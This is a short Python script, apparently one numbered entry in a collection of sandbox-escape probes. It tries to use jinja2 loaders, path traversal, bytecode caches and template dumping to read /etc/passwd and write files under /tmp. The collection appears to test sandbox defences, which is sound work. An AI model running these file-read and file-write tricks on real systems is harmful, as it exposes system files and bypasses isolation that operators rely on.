# escape: 310
# packages: jinja2
# technique: jinja2's loaders and caches read, write and import files
# family: dfile
# goal: read-file
# first-seen: FileSystemLoader, PackageLoader, ModuleLoader, bytecode caches, compile_templates
import jinja2
def go(f):
    try: text = str(f())
    except Exception: return
    if "root:" in text: print("ESCAPED:" + text[:40])
E = jinja2.Environment
go(lambda: E(loader=jinja2.FileSystemLoader("/etc")).get_template("passwd").render())
go(lambda: E(loader=jinja2.FileSystemLoader("/")).from_string("{% include 'etc/passwd' %}").render())
go(lambda: E(loader=jinja2.PackageLoader("jinja2", "../../../../../etc")).get_template("passwd").render())
go(lambda: E(loader=jinja2.FileSystemLoader("/etc")).list_templates() and "root:")
go(lambda: E(loader=jinja2.ModuleLoader("/usr/lib/python3.11")).get_template("this").render())
cache = jinja2.FileSystemBytecodeCache("/tmp", "escape-310%s")
go(lambda: E(loader=jinja2.DictLoader({"a": "a"}), bytecode_cache=cache).get_template("a").render())
go(lambda: E(loader=jinja2.DictLoader({"a": "a"})).compile_templates("/tmp/escape-310", zip=None))
go(lambda: E().from_string("a").stream().dump("/tmp/escape-310"))
